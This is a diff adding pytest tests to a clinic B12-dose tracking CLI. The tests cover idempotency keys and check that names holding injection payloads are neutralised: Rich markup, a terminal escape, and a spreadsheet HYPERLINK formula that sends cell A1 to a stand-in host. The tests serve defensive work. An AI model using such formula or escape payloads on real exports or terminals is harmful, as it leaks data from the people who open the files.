@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Callable
 
 import pytest
-from tests.conftest import CliResult
+from tests.conftest import EXAMPLE_CASE, CliResult
 
 Run = Callable[..., CliResult]
 LAB = ("--test", "total_b12", "--date", "2026-01-01")
@@ -79,6 +81,21 @@ def test_bad_record_input_exits_2_naming_the_field(run_cli: Run, cli_patient: st
         assert "Traceback" not in result.stderr
 
 
+def test_a_key_reused_for_another_dose_exits_2_naming_the_key_and_stores_nothing(
+    run_cli: Run, cli_patient: str
+) -> None:
+    first = run_cli("dose", "record", cli_patient, "--date", "2026-01-05", *DOSE, "--key", "visit-1")
+    other = ("--drug", "hydroxocobalamin", "--dose", "1", "--unit", "mg", "--route", "IM")
+
+    reused = run_cli("dose", "record", cli_patient, "--date", "2026-01-07", *other, "--key", "visit-1")
+
+    assert first.exit_code == 0
+    assert reused.exit_code == 2
+    assert reused.stderr.startswith("error: idempotency_key: ")
+    history = run_cli("history", cli_patient, width=200).stdout
+    assert "2026-01-05" in history and "2026-01-07" not in history
+
+
 @pytest.mark.parametrize("workers", ["1", "2"])
 def test_recompute_rebuilds_every_stored_forecast(run_cli: Run, cli_patient: str, workers: str) -> None:
     # a day after every change of this patient's forecast (the write stored it as of today, the recompute
@@ -126,3 +143,43 @@ def test_demo_creates_patients_at_every_stage_and_the_recall_list_puts_the_most_
     assert {"overdue", "needs_review"} <= set(statuses)
     assert {"MAINTENANCE_LAPSED", "REVIEW_OVERDUE", "SYMPTOMS_RECURRING_BEFORE_DUE"} <= flags
     assert "MAINTENANCE_LAPSED" in rows[0]["flags"] or "REVIEW_OVERDUE" in rows[0]["flags"]
+
+
+def test_recall_shows_typed_names_literally_and_its_csv_defuses_formulas(
+    run_cli: Run, cli_clinic_and_patient: tuple[str, str]
+) -> None:
+    """Security probe L2: markup in a name crashed the table; a formula went unchanged into the CSV."""
+    clinic, _ = cli_clinic_and_patient
+    for reference, name in (("H2", "[/]bold[link=http://x]y"), ("H3", '=HYPERLINK("http://x/?"&A1,"click")')):
+        added = run_cli(
+            "patient", "add", "--clinic", clinic, "--reference", reference, "--name", name,
+            "--case", str(EXAMPLE_CASE), "--actor", "nurse.a",
+        )  # fmt: skip
+        assert added.exit_code == 0, added.stderr
+
+    table = run_cli("recall", "--as-of", "2026-02-01", width=300)
+    listing = run_cli("patient", "list", "--clinic", clinic, width=300)
+    rows = list(
+        csv.DictReader(io.StringIO(run_cli("recall", "--as-of", "2026-02-01", "--format", "csv").stdout))
+    )
+
+    assert table.exit_code == 0, table.stderr
+    assert "[/]bold[link=http://x]y" in table.stdout
+    assert "[/]bold[link=http://x]y" in listing.stdout
+    names = {row["reference"]: row["name"] for row in rows}
+    assert names["H3"] == "'" + '=HYPERLINK("http://x/?"&A1,"click")'
+    assert names["H2"] == "[/]bold[link=http://x]y"
+
+
+def test_a_name_with_a_terminal_escape_is_refused_naming_the_field(
+    run_cli: Run, cli_clinic_and_patient: tuple[str, str]
+) -> None:
+    clinic, _ = cli_clinic_and_patient
+
+    result = run_cli(
+        "patient", "add", "--clinic", clinic, "--reference", "H9", "--name", "Eve\x1b[31mRED",
+        "--case", str(EXAMPLE_CASE),
+    )  # fmt: skip
+
+    assert result.exit_code == 2
+    assert result.stderr.startswith("error: name: ") and "control character" in result.stderr
